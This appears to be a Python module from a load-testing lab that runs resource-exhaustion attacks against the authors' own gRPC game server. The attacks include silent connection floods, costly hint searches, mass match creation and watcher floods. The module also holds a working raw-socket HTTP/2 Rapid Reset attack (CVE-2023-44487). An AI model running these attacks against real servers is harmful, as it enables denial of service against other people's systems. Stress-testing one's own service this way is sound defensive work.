"""The attacks of one caller. Each takes as much as it can get until its time is up."""

import asyncio
import contextlib
import math
import os
import random
import socket
import struct
import time
from collections.abc import Awaitable, Callable

import grpc

from croupier.client import bot
from croupier.v1 import game_pb2, hint_pb2, hint_pb2_grpc, match_pb2, match_pb2_grpc
from lab.overload.attacker import Attacker, Outcomes, reason_of
from lab.overload.places import Place, channel, relayed
from lab.overload.stream_attacks import HEAD, STREAM_ATTACKS, frame, text
from lab.overload.web_attacks import WEB_ATTACKS

SILENT = 3_000
SELF_PLAYING = 1_000
BY_DEFAULTS = {"per_decision": {"seconds": 1}, "on_expiry": "EXPIRY_POLICY_DEFAULT_ACTION"}
BOT_MATCHES = 300
WATCHERS = 10_000
STREAMS = 64
HINTS = 500
RESETS_A_SECOND = 25_000


def _limits(seconds: float = 0, iterations: int = 0, threads: int = 0) -> hint_pb2.SearchLimits:
    limits = hint_pb2.SearchLimits(iterations=iterations, threads=threads)
    if seconds:
        limits.time.FromMilliseconds(round(1000 * seconds))
    return limits


# The attacks


async def nothing(attacker: Attacker) -> None:
    """Does nothing, so that it is seen what the others alone leave in memory."""
    attacker.outcomes["nothing"] += 1
    await asyncio.sleep(attacker.end - time.monotonic())


async def self_playing_matches(attacker: Attacker) -> None:
    """Creates matches that play themselves by default actions."""
    await _create(attacker, SELF_PLAYING, ruleset={"skystones": {}}, time_control=BY_DEFAULTS)


async def _create(attacker: Attacker, most: float = math.inf, **parameters: object) -> None:
    async with channel(attacker.near) as own:

        async def create() -> None:
            if attacker.outcomes["answered"] < most:
                await attacker.create(own, **parameters)
            else:
                await asyncio.sleep(0.1)

        await attacker.until_end(create, STREAMS)


async def _a_view(attacker: Attacker, own: grpc.aio.Channel) -> game_pb2.View | None:
    created = await attacker.create(own, ruleset={"skystones": {}})
    if created is None:
        return None
    response = await match_pb2_grpc.MatchServiceStub(own).GetView(
        match_pb2.GetViewRequest(name=created.name),
        metadata=attacker.bearer(created.seat_tokens[0].token),
        timeout=30,
    )
    view: game_pb2.View = response.view
    return view


async def _hints(
    attacker: Attacker, limits: hint_pb2.SearchLimits, at_once: int, worlds: int = 0
) -> None:
    async with channel(attacker.near) as own:
        view = await _a_view(attacker, own)
        assert view is not None, attacker.outcomes
        stub = hint_pb2_grpc.HintServiceStub(own)
        request = hint_pb2.SuggestActionRequest(
            search=hint_pb2.Search(view=view, limits=limits, belief_worlds=worlds)
        )

        async def ask() -> None:
            await attacker.call(
                stub.SuggestAction(request, metadata=attacker.metadata, timeout=3600)
            )

        await attacker.until_end(ask, at_once)


async def long_hints(attacker: Attacker) -> None:
    """Asks for hints of a minute with 16 threads, a few at a time."""
    await _hints(attacker, _limits(seconds=60, threads=16), 4)


async def endless_hints(attacker: Attacker) -> None:
    """Asks for hints of ten million iterations without a limit of time."""
    await _hints(attacker, _limits(iterations=10_000_000, threads=16), 4)


async def many_hints(attacker: Attacker) -> None:
    """Keeps 500 hints of a second outstanding."""
    await _hints(attacker, _limits(seconds=1), HINTS)


async def large_beliefs(attacker: Attacker) -> None:
    """Asks for beliefs from as many worlds as possible after a search of a millisecond."""
    await _hints(attacker, _limits(seconds=0.001), STREAMS, 100_000)


async def bot_matches(attacker: Attacker) -> None:
    """Creates matches in which experts play experts."""
    seats = [bot("expert"), bot("expert")]
    await _create(attacker, BOT_MATCHES, ruleset={"castle_rampage": {}}, seats=seats)


async def large_creations(attacker: Attacker) -> None:
    """Creates matches with large decks as fast as it can."""
    copies = dict.fromkeys(range(2, 13), 6) | {1: 1}  # There is one King.
    nine = {"movement": 9, "attack": 9, "defend": 9}
    cards = [{"card": card, "copies": count, **nine} for card, count in copies.items()]
    await _create(attacker, ruleset={"champion_chess": {"cards": cards}})


async def silent_connections(attacker: Attacker) -> None:
    """Keeps connections open on which it says nothing."""
    await attacker.keep_connections(SILENT, "connected")


async def watchers(attacker: Attacker) -> None:
    """Watches a match that plays itself 10,000 times on one connection."""
    async with channel(attacker.near) as own:
        created = await attacker.create(own, ruleset={"skystones": {}}, time_control=BY_DEFAULTS)
        assert created is not None, attacker.outcomes
        stub = match_pb2_grpc.MatchServiceStub(own)
        # As often as the schema allows.
        request = match_pb2.WatchMatchRequest(name=created.name, heartbeat_interval={"seconds": 1})
        bearer = attacker.bearer(created.spectator_token)

        async def watch() -> None:
            call = stub.WatchMatch(request, metadata=bearer)
            try:
                async for _ in call:
                    attacker.outcomes["watching"] += 1
            except grpc.RpcError as error:
                attacker.outcomes[reason_of(error)] += 1
                await asyncio.sleep(0.1)

        await attacker.until_end(watch, WATCHERS)


async def calls(attacker: Attacker) -> None:
    """Gets a view as often as it can."""
    async with channel(attacker.near) as own:
        created = await attacker.create(own, ruleset={"champion_chess": {}})
        assert created is not None, attacker.outcomes
        stub = match_pb2_grpc.MatchServiceStub(own)
        request = match_pb2.GetViewRequest(name=created.name)
        bearer = attacker.bearer(created.seat_tokens[0].token)
        await attacker.until_end(
            lambda: attacker.call(stub.GetView(request, metadata=bearer, timeout=30)), STREAMS
        )


async def stream_resets(attacker: Attacker) -> None:
    """Opens streams on one connection and resets each at once (CVE-2023-44487)."""
    await asyncio.to_thread(_reset_streams, attacker)


def _reset_streams(attacker: Attacker) -> None:
    host, _, port = attacker.address.rpartition(":")
    headers = b"\x83\x86\x04" + text("/croupier.v1.CatalogService/ListGames")
    headers += b"\x01" + text(attacker.address) + b"\x0f\x10" + text("application/grpc")
    for name, value in attacker.metadata:
        headers += b"\x00" + text(name) + text(value)
    while attacker.going_on:
        try:
            with socket.create_connection(
                (host, int(port)), timeout=5, source_address=(attacker.place.host, 0)
            ) as connection:
                _reset_on(connection, headers, attacker)
        except OSError:
            attacker.outcomes["connections closed"] += 1


def _reset_on(connection: socket.socket, headers: bytes, attacker: Attacker) -> None:
    connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
    connection.setblocking(False)
    pending = b""
    began = time.monotonic()
    for stream in range(1, 1 << 30, 2):
        if not attacker.going_on:
            return
        pending += frame(1, 4, stream, headers) + frame(0, 1, stream, bytes(5))
        pending += frame(3, 0, stream, struct.pack(">I", 8))
        attacker.outcomes["resets"] += 1
        if len(pending) < 1 << 15:
            continue
        time.sleep(max(0.0, began + stream / 2 / RESETS_A_SECOND - time.monotonic()))
        connection.setblocking(True)
        connection.sendall(pending)
        pending = b""
        connection.setblocking(False)
        with contextlib.suppress(BlockingIOError):
            while data := connection.recv(1 << 16):
                pending += _answers(data)


def _answers(data: bytes) -> bytes:
    # Acknowledges settings and pings that begin in this piece; what it misses, the server forgives.
    answers, at = b"", 0
    while len(data) - at >= HEAD.size:
        high, low, kind, flags, _ = HEAD.unpack_from(data, at)
        end = at + HEAD.size + (high << 16 | low)
        if kind in (4, 6) and not flags & 1:
            answers += frame(kind, 1, 0, data[at + HEAD.size : end] if kind == 6 else b"")
        at = end
    return answers


def lower_priority() -> None:
    """Leaves the processors to the server, also to its searches: an attacker would have its own."""
    os.setpriority(os.PRIO_PROCESS, 0, 19)
    with contextlib.suppress(OSError):  # A sandbox may not allow it.
        os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))


ATTACKS: dict[str, Callable[[Attacker], Awaitable[None]]] = {
    each.__name__: each
    for each in (
        nothing,
        self_playing_matches,
        long_hints,
        endless_hints,
        many_hints,
        large_beliefs,
        bot_matches,
        large_creations,
        silent_connections,
        stream_resets,
        watchers,
        calls,
        *STREAM_ATTACKS,
        *WEB_ATTACKS,
    )
}


def attack(name: str, address: str, place: Place, seconds: float, web: str) -> Outcomes:
    """Attacks for so many seconds; returns what became of the calls."""

    async def run() -> Outcomes:
        random.seed(name)
        async with relayed(address, place) as near:
            attacker = Attacker(address, near, place, seconds, web)
            await ATTACKS[name](attacker)
        return attacker.outcomes

    return asyncio.run(run())
